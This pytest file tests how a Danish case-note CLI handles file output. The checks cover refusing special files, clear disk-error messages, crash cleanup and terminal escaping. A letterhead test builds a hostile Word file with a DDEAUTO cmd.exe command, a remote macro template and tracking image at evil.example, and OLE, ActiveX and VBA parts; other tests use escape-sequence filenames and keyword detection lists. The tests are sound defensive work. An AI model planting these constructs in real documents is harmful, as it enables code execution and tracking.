"""What Assist writes: only regular files (never a device, FIFO or socket), clear messages when a
place cannot be written, no plaintext temporaries left behind by a kill, exports that carry no
external relationship, macro or embedded object, and terminal output without control characters.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import random
import re
import signal
import socket
import stat
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import docx
import pytest
from test_export_docx import _rewrite

from assist.cli import main

REPO = Path(__file__).resolve().parents[1]
SAMPLE_WAV = REPO / "tests" / "fixtures" / "sample-da.wav"
SIGNER = "Anne Hansen"
TITLE = "J.nr. 27.12.04-G01-17-26"
NOTES = (
    "Borgeren fortalte, at hun har haft ondt i ryggen i tre måneder og ikke kan arbejde.\n"
    "Vi aftalte et nyt møde den 12. december klokken ti på jobcentret.\n"
    "Borgeren ønsker at komme i praktik i en børnehave.\n"
)
ASSESSMENT = "Min faglige vurdering er, at borgeren har brug for en afklaring af skånehensyn."
UNEXPECTED = ("uventet fejl", "unexpected error", "Traceback")
# The atomic writer's temporaries, now and before (".NAME.RANDOM.part").
LEFTOVER = re.compile(r"^\..+\.(assist-part|part)$")


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def refused(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    """The command fails with one clear line: non-zero, nothing on stdout, no internal error."""
    code, out, err = run(capsys, *argv)
    assert code != 0, (out, err)
    assert not any(word in err for word in UNEXPECTED), err
    assert err.strip() and len(err.strip().splitlines()) == 1, err
    return err


def signed_case(capsys: pytest.CaptureFixture[str], tmp_path: Path, title: str = TITLE) -> str:
    """A case drafted from typed notes (structured drafter, no model), assessed and signed."""
    code, out, err = run(
        capsys, "case", "new", "--title", title, "--consent", "given", "--consent-by",
        "Borger B", "--note-type", "journalnotat", "--participant", "Anne Hansen (rådgiver)",
    )  # fmt: skip
    assert code == 0, err
    case_id = out.strip()
    notes = tmp_path / "noter.txt"
    notes.write_text(NOTES, encoding="utf-8")
    code, _, err = run(
        capsys, "draft", "--case", case_id, "--typed", str(notes), "--engine", "structured"
    )
    assert code == 0, err
    code, _, err = run(
        capsys, "note", "edit", case_id, "--section", "faglig_vurdering", "--text", ASSESSMENT
    )
    assert code == 0, err
    code, _, err = run(capsys, "sign", case_id, "--signer", SIGNER, "--acknowledge-all")
    assert code == 0, err
    return case_id


def leftovers(*folders: Path) -> list[str]:
    found: list[str] = []
    for folder in folders:
        for path in folder.rglob("*"):
            if LEFTOVER.match(path.name) or path.suffix == ".pending":
                found.append(str(path))
    return found


@pytest.fixture
def fake_asr(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from assist.asr import model
    from assist.asr.engine import FakeAsrEngine

    monkeypatch.setenv("ASSIST_MODEL_DIR", str(tmp_path / "no-models"))
    monkeypatch.setattr(model, "load_engine", lambda *a, **k: FakeAsrEngine())


# ---- special files are never replaced (defect 2) ----------------------------------------------


def _special(kind: str, path: Path) -> Iterator[None]:
    if kind == "fifo":
        os.mkfifo(path)
        yield
    elif kind == "socket":
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            server.bind(str(path))
            yield
        finally:
            server.close()
    elif kind == "device":
        try:  # a character device like /dev/null (1, 3), made in the test's own folder
            os.mknod(path, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
        except (PermissionError, OSError):
            pytest.skip("cannot create a device node here (needs root)")
        yield
    else:
        link_target = path.parent / "the-fifo"
        os.mkfifo(link_target)
        path.symlink_to(link_target)
        yield


def _file_type(path: Path) -> str:
    mode = os.stat(path).st_mode
    for name, test in (
        ("fifo", stat.S_ISFIFO), ("socket", stat.S_ISSOCK), ("chr", stat.S_ISCHR),
        ("reg", stat.S_ISREG), ("dir", stat.S_ISDIR),
    ):  # fmt: skip
        if test(mode):
            return name
    return "other"


SPECIAL_KINDS = ["fifo", "socket", "device", "symlink_to_fifo"]


@pytest.mark.parametrize("kind", SPECIAL_KINDS)
def test_transcribe_output_onto_a_special_file_is_refused_and_left_untouched(
    fake_asr: None, tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str
) -> None:
    target = tmp_path / "special"
    with contextlib.contextmanager(_special)(kind, target):
        before = _file_type(target)
        err = refused(
            capsys, "transcribe", str(SAMPLE_WAV), "--json", "--output", str(target), "--lang",
            "en",
        )  # fmt: skip
        assert "not a regular file" in err and str(target) in err
        assert _file_type(target) == before != "reg"
        assert leftovers(tmp_path) == []


@pytest.mark.parametrize("kind", SPECIAL_KINDS)
def test_export_onto_a_special_file_is_refused_before_anything_is_written(
    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str
) -> None:
    case_id = signed_case(capsys, tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    target = out / "special"
    with contextlib.contextmanager(_special)(kind, target):
        before = _file_type(target)
        assert "regular file" in refused(
            capsys, "export", case_id, "--docx", str(target), "--lang", "en"
        )
        # The TXT is refused as well, and a good DOCX beside a bad TXT is not written either.
        good = out / "notat.docx"
        assert "regular file" in refused(
            capsys, "export", case_id, "--docx", str(good), "--txt", str(target), "--lang", "en"
        )
        assert not good.exists()
        assert _file_type(target) == before
    shown, out_text, _ = run(capsys, "case", "show", case_id, "--json")
    assert shown == 0 and json.loads(out_text)["state"] == "signed"  # no export was recorded
    assert leftovers(out, data_dir) == []


def test_draft_output_onto_a_fifo_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    notes = tmp_path / "noter.txt"
    notes.write_text(NOTES, encoding="utf-8")
    target = tmp_path / "fifo"
    os.mkfifo(target)
    refused(
        capsys, "draft", "--typed", str(notes), "--engine", "structured", "--output", str(target)
    )
    assert _file_type(target) == "fifo"


def test_an_output_through_a_symlink_to_a_regular_file_writes_the_file_and_keeps_the_link(
    fake_asr: None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    real = tmp_path / "real.json"
    real.write_text("old", encoding="utf-8")
    link = tmp_path / "link.json"
    link.symlink_to(real)
    code, _, err = run(capsys, "transcribe", str(SAMPLE_WAV), "--json", "--output", str(link))
    assert code == 0, err
    assert link.is_symlink() and json.loads(real.read_text(encoding="utf-8"))["segments"]


# ---- clear messages where a place cannot be written (defect 14) -------------------------------


@contextlib.contextmanager
def tmpfs(path: Path, *options: str) -> Iterator[Path]:
    path.mkdir(exist_ok=True)
    result = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", ",".join(("size=64k", *options)), "tmpfs", str(path)],
        capture_output=True,
    )
    if result.returncode != 0:
        pytest.skip("cannot mount a tmpfs here")
    try:
        yield path
    finally:
        subprocess.run(["umount", "-l", str(path)], check=False)


def test_transcribe_output_into_a_missing_folder_or_onto_a_folder_is_clear(
    fake_asr: None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "findes-ikke" / "t.json"
    err = refused(capsys, "transcribe", str(SAMPLE_WAV), "--output", str(missing), "--lang", "en")
    assert "does not exist" in err and "findes-ikke" in err
    err = refused(capsys, "transcribe", str(SAMPLE_WAV), "--output", str(tmp_path), "--lang", "en")
    assert "is a folder" in err
    under_file = tmp_path / "noter.txt"
    under_file.write_text("x", encoding="utf-8")
    refused(capsys, "transcribe", str(SAMPLE_WAV), "--output", str(under_file / "t.json"))
    assert leftovers(tmp_path) == []


def test_a_full_disk_is_said_clearly_and_leaves_nothing(
    fake_asr: None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with tmpfs(tmp_path / "full") as full:
        (full / "fill").write_bytes(b"x" * 60_000)
        with contextlib.suppress(OSError):
            (full / "fill2").write_bytes(b"x" * 8192)
        target = full / "t.json"
        err = refused(capsys, "transcribe", str(SAMPLE_WAV), "--json", "--output", str(target))
        assert "plads" in err
        assert not target.exists() and leftovers(full) == []


def test_a_full_disk_during_the_write_is_said_clearly_simulated(
    fake_asr: None,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import errno

    real_fsync = os.fsync

    def full_fsync(fd: int) -> None:
        if ".assist-part" in os.readlink(f"/proc/self/fd/{fd}"):
            raise OSError(errno.ENOSPC, "No space left on device")
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", full_fsync)
    target = tmp_path / "t.json"
    err = refused(
        capsys, "transcribe", str(SAMPLE_WAV), "--json", "--output", str(target), "--lang", "en"
    )
    assert "no space" in err.lower() and str(target) in err
    assert not target.exists() and leftovers(tmp_path) == []


def test_a_read_only_place_is_said_clearly(
    fake_asr: None, data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    case_id = signed_case(capsys, tmp_path)
    with tmpfs(tmp_path / "ro", "ro") as read_only:
        err = refused(capsys, "transcribe", str(SAMPLE_WAV), "--output", str(read_only / "t.txt"))
        assert "skrive" in err
        err = refused(capsys, "export", case_id, "--txt", str(read_only / "n.txt"))
        assert "Kan ikke gemme notatet" in err


def test_a_read_only_place_is_said_clearly_simulated(
    fake_asr: None,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import errno

    folder = tmp_path / "ro"
    folder.mkdir()
    real_open = os.open

    def read_only_open(path: object, flags: int, *args: object, **kwargs: object) -> int:
        if str(path).startswith(str(folder)) and flags & (os.O_WRONLY | os.O_RDWR):
            raise OSError(errno.EROFS, "Read-only file system", str(path))
        return real_open(path, flags, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "open", read_only_open)
    err = refused(
        capsys, "transcribe", str(SAMPLE_WAV), "--output", str(folder / "t.txt"), "--lang", "en"
    )
    assert "read-only" in err or "may not write" in err
    assert list(folder.iterdir()) == []


# ---- broken pipe: quiet (defect 14) -----------------------------------------------------------


def test_a_closed_pipe_ends_the_command_quietly(data_dir: Path, tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if k != "ASSIST_DEBUG"}
    for number in range(3):
        subprocess.run(
            [sys.executable, "-m", "assist", "case", "new", "--title", f"Sag {number} Hansen"],
            env=env, check=True, capture_output=True,
        )  # fmt: skip
    for argv in (["case", "list"], ["case", "list", "--json"], ["audit", "show"]):
        process = subprocess.Popen(
            [sys.executable, "-m", "assist", *argv],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env,
        )  # fmt: skip
        assert process.stdout is not None and process.stderr is not None
        process.stdout.close()  # what `| head -1` does once it has its line
        err = process.stderr.read().decode()
        code = process.wait(timeout=60)
        assert err == "", err
        assert code == 141


def test_broken_pipe_in_process_is_quiet(data_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    class Closed(io.StringIO):
        def write(self, text: str) -> int:
            raise BrokenPipeError(32, "Broken pipe")

        def flush(self) -> None:
            raise BrokenPipeError(32, "Broken pipe")

    errors = io.StringIO()
    monkeypatch.setattr(sys, "stdout", Closed())
    monkeypatch.setattr(sys, "stderr", errors)
    assert main(["case", "list"]) == 141
    assert errors.getvalue() == ""


# ---- terminal output without control characters (defect 16) -----------------------------------


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_control_and_bidi_characters_never_reach_a_terminal_raw(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    out, err = Terminal(), Terminal()
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", err)
    evil = tmp_path / "\x1b]0;ejet\x07\x1b[2J\u202eslo.json"
    assert main(["draft", str(evil)]) != 0
    shown = err.getvalue()
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert "\\u001b" in shown and "\\u202e" in shown  # visible, so nothing is hidden either


def test_the_same_text_goes_unchanged_to_a_file_or_pipe() -> None:
    from assist.cli.context import CliContext

    out = io.StringIO()
    CliContext("da", out, io.StringIO()).print("a\tb \u202e c")
    assert out.getvalue() == "a\tb \u202e c\n"
    terminal = Terminal()
    CliContext("da", terminal, io.StringIO()).print("a\tb \u202e c\x1b[31m \udcff")
    assert terminal.getvalue() == "a\tb \\u202e c\\u001b[31m \\udcff\n"


# ---- plaintext temporaries are removed after a kill (defect 11) --------------------------------

_SLOW_REPLACE_CHILD = """
import os, sys, time
real_replace = os.replace
def slow_replace(src, dst, *a, **k):
    if ".assist-part" in str(src):
        time.sleep(float(os.environ["SLOW_REPLACE_S"]))
    return real_replace(src, dst, *a, **k)
os.replace = slow_replace
from assist.cli import main
sys.exit(main(sys.argv[1:]))
"""


def _export_process(case_id: str, out: Path, slow_s: float) -> subprocess.Popen[bytes]:
    env = {k: v for k, v in os.environ.items() if k != "ASSIST_DEBUG"}
    env["SLOW_REPLACE_S"] = str(slow_s)
    return subprocess.Popen(
        [sys.executable, "-c", _SLOW_REPLACE_CHILD, "export", case_id,
         "--docx", str(out / "notat.docx"), "--txt", str(out / "notat.txt")],
        env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip


def _kill_when_a_temporary_exists(process: subprocess.Popen[bytes], *folders: Path) -> bool:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and process.poll() is None:
        if leftovers(*folders):
            process.send_signal(signal.SIGKILL)
            process.wait()
            return True
        time.sleep(0.002)
    process.wait()
    return False


@pytest.mark.slow
def test_kill_during_export_leaves_no_plaintext_after_the_next_start(
    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    case_id = signed_case(capsys, tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    env = {k: v for k, v in os.environ.items() if k != "ASSIST_DEBUG"}
    rng = random.Random(11)
    caught = 0
    for iteration in range(8):
        for stale in out.iterdir():
            stale.unlink()
        if iteration < 4:
            # Slowed just before the rename: the kill lands while a complete temporary exists
            # (the DOCX's, the TXT's, or the audit head's in the data folder).
            process = _export_process(case_id, out, slow_s=3.0)
            caught += _kill_when_a_temporary_exists(process, out, data_dir)
        else:
            process = _export_process(case_id, out, slow_s=0.0)
            time.sleep(rng.uniform(0.2, 1.5))
            process.send_signal(signal.SIGKILL)
            process.wait()
        # The next start of any command (here one that needs no key) cleans up.
        subprocess.run(
            [sys.executable, "-m", "assist", "templates", "list"],
            env=env, check=True, capture_output=True,
        )  # fmt: skip
        assert leftovers(out, data_dir) == [], iteration
    assert caught >= 3  # the interesting case was really exercised


def test_leftovers_of_dead_writers_go_and_live_writers_keep_theirs(tmp_path: Path) -> None:
    from assist import fsutil

    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "cases.sqlite3").write_bytes(b"db")
    (folder / ".audit-head.json.abc12345.part").write_text("{}")  # an older Assist's leftover
    (folder / ".notat.docx.0123456789abcdef.assist-part").write_bytes(b"PK plaintext")
    (folder / ".egen.fil.part.txt").write_text("not ours")
    with fsutil.atomic_output(folder / "live.json") as handle:
        handle.write(b"in progress")
        fsutil.clean_after_crash(folder)  # another process starting now must keep this one
        live = [p.name for p in folder.iterdir() if p.name.startswith(".live.json.")]
        assert len(live) == 1
    assert sorted(p.name for p in folder.iterdir()) == [
        ".egen.fil.part.txt", "cases.sqlite3", "live.json",
    ]  # fmt: skip


def test_a_kill_before_the_next_export_into_that_folder_is_cleaned_there_too(
    tmp_path: Path,
) -> None:
    from assist import fsutil

    folder = tmp_path / "eksport"
    folder.mkdir()
    stale = folder / ".gammel.docx.0123456789abcdef.assist-part"
    stale.write_bytes(b"PK plaintext of an export killed earlier")
    fsutil.atomic_write_bytes(folder / "ny.docx", b"new")
    assert sorted(p.name for p in folder.iterdir()) == ["ny.docx"]


# ---- letterheads: nothing external, no macros, no embedded objects (defect 12) ----------------

R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL_ATTACHED = f"{R_NS}/attachedTemplate"
REL_HYPERLINK = f"{R_NS}/hyperlink"
REL_OLE = f"{R_NS}/oleObject"
REL_CONTROL = f"{R_NS}/control"
REL_IMAGE = f"{R_NS}/image"
REL_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
CT_VBA = "application/vnd.ms-office.vbaProject"
CT_OLE = "application/vnd.openxmlformats-officedocument.oleObject"
CT_ACTIVEX = "application/vnd.ms-office.activeX+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOTM_MAIN = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _read(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read(name).decode("utf-8")


def _add_rel(rels: str, rel_id: str, reltype: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return rels.replace(
        "</Relationships>",
        f'<Relationship Id="{rel_id}" Type="{reltype}" Target="{target}"{mode}/></Relationships>',
    )


def _empty_rels() -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        "</Relationships>"
    )


def hostile_letterhead() -> bytes:
    """A letterhead (made with python-docx) with everything an export must not carry."""
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "Holbæk Kommune"
    buffer = io.BytesIO()
    document.save(buffer)
    data = buffer.getvalue()
    types = _read(data, "[Content_Types].xml")
    types = types.replace(
        "</Types>",
        f'<Override PartName="/word/embeddings/oleObject1.bin" ContentType="{CT_OLE}"/>'
        f'<Override PartName="/word/activeX/activeX1.xml" ContentType="{CT_ACTIVEX}"/></Types>',
    )
    # settings.xml: an attached template on a web server (Word fetches it on open).
    settings = _read(data, "word/settings.xml").replace(
        "</w:settings>", f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdT1"/></w:settings>'
    )
    settings_rels = _add_rel(
        _empty_rels(), "rIdT1", REL_ATTACHED, "http://evil.example/t.dotm", True
    )
    # document.xml: an external hyperlink, an external picture field, an OLE object, a control.
    document_xml = _read(data, "word/document.xml")
    body_extra = (
        '<w:p><w:hyperlink r:id="rIdH1"><w:r><w:t>Kommunens hjemmeside</w:t></w:r>'
        "</w:hyperlink></w:p>"
        "<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/p.png\" \\d '>"
        "<w:r><w:t>billede</w:t></w:r></w:fldSimple></w:p>"
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc" '
        "</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>dde</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'r:id="rIdO1" ProgID="Package"/></w:object></w:r></w:p>'
        '<w:p><w:r><w:object><w:control r:id="rIdX1" w:name="Knap"/></w:object></w:r></w:p>'
    )
    document_xml = document_xml.replace("<w:sectPr", body_extra + "<w:sectPr", 1)
    assert 'xmlns:r="' in document_xml
    document_rels = _read(data, "word/_rels/document.xml.rels")
    document_rels = _add_rel(document_rels, "rIdH1", REL_HYPERLINK, "http://evil.example/", True)
    document_rels = _add_rel(document_rels, "rIdO1", REL_OLE, "embeddings/oleObject1.bin")
    document_rels = _add_rel(document_rels, "rIdX1", REL_CONTROL, "activeX/activeX1.xml")
    document_rels = _add_rel(
        document_rels, "rIdI1", REL_IMAGE, "http://evil.example/track.png", True
    )
    activex = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'
    )
    return _rewrite(
        data,
        {
            "[Content_Types].xml": types.encode(),
            "word/settings.xml": settings.encode(),
            "word/_rels/settings.xml.rels": settings_rels.encode(),
            "word/document.xml": document_xml.encode(),
            "word/_rels/document.xml.rels": document_rels.encode(),
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 an OLE compound file",
            "word/activeX/activeX1.xml": activex.encode(),
        },
    )


def _signed_note() -> object:
    from test_signoff_samples import SIGNED_AT, sample_note

    from assist.signoff import sign_note

    return sign_note(sample_note(), SIGNER, "all", SIGNED_AT)


def assert_package_is_clean(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        names = package.namelist()
        everything = {name: package.read(name) for name in names}
    assert not any(re.search(r"vbaProject|oleObject|activeX|embeddings/", n) for n in names), names
    for name, payload in everything.items():
        if name.endswith(".rels"):
            assert b'TargetMode="External"' not in payload, name
            assert b"attachedTemplate" not in payload and b"oleObject" not in payload, name
        if name.endswith(".xml"):
            for word in (b"INCLUDEPICTURE", b"DDEAUTO", b"attachedTemplate", b"OLEObject"):
                assert word not in payload, (name, word)
        if name == "[Content_Types].xml":
            assert b"vbaProject" not in payload and b"macroEnabled" not in payload
            assert b"oleObject" not in payload and b"activeX" not in payload
    # Every r:id that is left points at a relationship that exists (Word opens the file).
    for name, payload in everything.items():
        if not name.endswith(".xml") or name.startswith("[") or "_rels" in name:
            continue
        folder, _, base = name.rpartition("/")
        rels_name = f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"
        ids = set(re.findall(rb'Id="([^"]+)"', everything.get(rels_name, b"")))
        used = set(re.findall(rb'r:(?:id|embed|link|pict)="([^"]+)"', payload))
        assert used <= ids, (name, used - ids)


def test_a_hostile_letterhead_gives_an_export_without_external_or_active_content(
    tmp_path: Path,
) -> None:
    from assist.signoff.docx_export import render_docx

    letterhead = tmp_path / "brevpapir.docx"
    letterhead.write_bytes(hostile_letterhead())
    path = render_docx(_signed_note(), tmp_path / "notat.docx", letterhead=letterhead)
    data = path.read_bytes()
    assert_package_is_clean(data)
    document = docx.Document(str(path))
    assert document.sections[0].header.paragraphs[0].text == "Holbæk Kommune"
    text = "\n".join(p.text for p in document.paragraphs)
    assert "Kommunens hjemmeside" in text  # a link's text stays, only the link goes
    assert "Faglig vurdering" in text


def test_the_same_letterhead_as_dotx_is_cleaned_too(tmp_path: Path) -> None:
    from assist.signoff.docx_export import render_docx

    data = hostile_letterhead()
    types = _read(data, "[Content_Types].xml").replace(
        DOCX_MAIN,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
    )
    letterhead = tmp_path / "brevpapir.dotx"
    letterhead.write_bytes(_rewrite(data, {"[Content_Types].xml": types.encode()}))
    path = render_docx(_signed_note(), tmp_path / "notat.docx", letterhead=letterhead)
    assert_package_is_clean(path.read_bytes())


def _macro_letterhead(main_type: str | None, with_vba: bool) -> bytes:
    document = docx.Document()
    buffer = io.BytesIO()
    document.save(buffer)
    data = buffer.getvalue()
    types = _read(data, "[Content_Types].xml")
    changes: dict[str, bytes] = {}
    if main_type is not None:
        types = types.replace(DOCX_MAIN, main_type)
    if with_vba:
        types = types.replace(
            "</Types>",
            f'<Override PartName="/word/vbaProject.bin" ContentType="{CT_VBA}"/></Types>',
        )
        rels = _add_rel(
            _read(data, "word/_rels/document.xml.rels"), "rIdV1", REL_VBA, "vbaProject.bin"
        )
        changes["word/_rels/document.xml.rels"] = rels.encode()
        changes["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 VBA"
    changes["[Content_Types].xml"] = types.encode()
    return _rewrite(data, changes)


@pytest.mark.parametrize(
    ("name", "main_type", "with_vba"),
    [
        ("brevpapir.dotm", DOTM_MAIN, True),
        ("brevpapir.docm", DOCM_MAIN, True),
        ("brevpapir.dotm", None, False),  # the name alone is enough
        ("brevpapir.docx", DOCM_MAIN, False),  # a renamed .docm
        ("brevpapir.docx", None, True),  # a .docx with a macro project slipped in
    ],
)
def test_a_macro_letterhead_is_refused_clearly(
    tmp_path: Path, name: str, main_type: str | None, with_vba: bool
) -> None:
    from assist.errors import AssistError
    from assist.signoff.docx_export import render_docx

    letterhead = tmp_path / name
    letterhead.write_bytes(_macro_letterhead(main_type, with_vba))
    target = tmp_path / "notat.docx"
    with pytest.raises(AssistError) as caught:
        render_docx(_signed_note(), target, letterhead=letterhead)
    assert caught.value.code == "signoff.letterhead_macros"
    assert "makro" in caught.value.message("da") and ".dotx" in caught.value.message("en")
    assert not target.exists()


def test_export_with_a_dotm_letterhead_on_the_command_line_is_one_clear_line(
    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    case_id = signed_case(capsys, tmp_path)
    letterhead = tmp_path / "brevpapir.dotm"
    letterhead.write_bytes(_macro_letterhead(DOTM_MAIN, True))
    err = refused(
        capsys, "export", case_id, "--docx", str(tmp_path / "n.docx"), "--letterhead",
        str(letterhead),
    )  # fmt: skip
    assert "makroer" in err
    assert not (tmp_path / "n.docx").exists()


def test_a_killed_exports_temporary_elsewhere_goes_at_the_next_start(tmp_path: Path) -> None:
    from assist import fsutil

    data, exports = tmp_path / "data", tmp_path / "dokumenter"
    data.mkdir()
    exports.mkdir()
    token = "0123456789abcdef"
    stale = exports / f".notat.docx.{token}.assist-part"
    stale.write_bytes(b"PK the plaintext note of a killed export")
    journal = data / fsutil.PENDING_DIR
    journal.mkdir()
    (journal / f"{token}.pending").write_bytes(os.fsencode(str(stale)))
    # A marker naming a file that is not its own temporary is dropped, the file is not touched.
    other = exports / "egen.docx"
    other.write_bytes(b"the user's own file")
    (journal / "fedcba9876543210.pending").write_bytes(os.fsencode(str(other)))
    assert fsutil.clean_after_crash(data) == 1  # what any command does first
    assert sorted(p.name for p in exports.iterdir()) == ["egen.docx"]
    assert list(journal.iterdir()) == []
    with fsutil.tracking_outputs(data), fsutil.atomic_output(exports / "ny.docx") as handle:
        # While a write runs, a start in another process keeps its marker and its temporary.
        assert len(list(journal.iterdir())) == 1
        assert fsutil.clean_after_crash(data) == 0
        assert len(list(journal.iterdir())) == 1 and len(leftovers(exports)) == 1
        handle.write(b"new")
    assert sorted(p.name for p in exports.iterdir()) == ["egen.docx", "ny.docx"]
    assert list(journal.iterdir()) == []
